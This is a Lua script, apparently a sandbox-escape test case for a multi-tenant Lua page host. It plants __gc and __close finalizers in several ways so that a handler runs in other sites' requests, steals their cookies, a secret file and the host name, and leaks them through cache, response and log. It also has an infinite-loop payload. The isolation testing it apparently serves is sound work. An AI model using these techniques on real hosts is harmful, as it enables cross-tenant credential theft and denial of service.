-- Class 1: code planted to run after this request. Where it runs at all, a finalizer runs inside
-- whichever request's code starts a collection (any site's), with that request's host API, and
-- with hooks off (outside every budget). `variant` is how it is planted, `payload` what it does.
local variant, payload = request.query.variant, request.query.payload
local loot = {}
local replanted = 0
local handler

local function steal()
  local got = {}
  local ok, v = pcall(function() return request.headers.cookie end)
  if ok and v then got[#got + 1] = "cookie=" .. tostring(v) end
  ok, v = pcall(fs.read, "_secret.txt")
  if ok and v then got[#got + 1] = "file=" .. tostring(v) end
  ok, v = pcall(function() return request.host end)
  local host = ok and v or "?"
  got[#got + 1] = "host=" .. tostring(host)
  loot[#loot + 1] = table.concat(got, ";")
  local all = table.concat(loot, "|")
  -- Out through every channel the running request has: its cache namespace, its response (the
  -- attacker's own when a later attacker request is the one that collects) and the log.
  pcall(cache.set, "loot", all)
  pcall(response.write, "PWNED by a " .. variant .. " handler: " .. all .. "\n")
  pcall(log.warn, "PWNED by a " .. variant .. " handler: " .. all)
  return host
end

handler = function()
  if payload == "spin" then
    while true do end
  end
  local host = steal()
  -- Plant again (at most 50 times in all) so that collection after collection runs it, until it
  -- has delivered its loot to a request of the attacker's own.
  if host ~= "a.test" and replanted < 50 and variant ~= "close" and variant ~= "close-error" then
    replanted = replanted + 1
    pcall(setmetatable, {}, {__gc = handler})
  end
end

local plant = {
  direct = function()
    for _ = 1, 20 do setmetatable({}, {__gc = handler}) end
  end,
  late = function()
    -- Lua 5.4 manual 2.5.3: an object is marked for finalization when its metatable has a __gc
    -- field at setmetatable; the field's value is looked up only when the object is collected.
    local mt = {__gc = true}
    for _ = 1, 20 do setmetatable({}, mt) end
    mt.__gc = handler
  end,
  ["late-rawset"] = function()
    local mt = {__gc = false}
    for _ = 1, 20 do setmetatable({}, mt) end
    rawset(mt, "__gc", handler)
  end,
  reused = function()
    -- One metatable shared by many objects, and made finalizable itself (a metatable is an object).
    local mt = {__gc = handler}
    for _ = 1, 20 do setmetatable({}, mt) end
    setmetatable(mt, mt)
  end,
  weak = function()
    -- Objects reachable only through weak tables: an ephemeron's keys and a weak table's values.
    local keys = setmetatable({}, {__mode = "k"})
    local values = setmetatable({}, {__mode = "v"})
    for i = 1, 20 do
      keys[setmetatable({}, {__gc = handler})] = i
      values[i] = setmetatable({}, {__gc = handler})
    end
  end,
  close = function()
    -- A to-be-closed variable whose __close runs when its scope ends: here the page is stopped from
    -- outside (its wall-time budget), so whoever closes the page's coroutine runs the handler.
    local pending <close> = setmetatable({}, {__close = handler})
    sleep(30)
  end,
  ["close-error"] = function()
    local pending <close> = setmetatable({}, {__close = handler})
    error("the page fails with a handler pending")
  end,
}

local f = plant[variant]
if f == nil then error("unknown variant " .. tostring(variant)) end
local ok, err = pcall(f)
print("planted " .. variant .. " " .. tostring(ok) .. " " .. tostring(err))
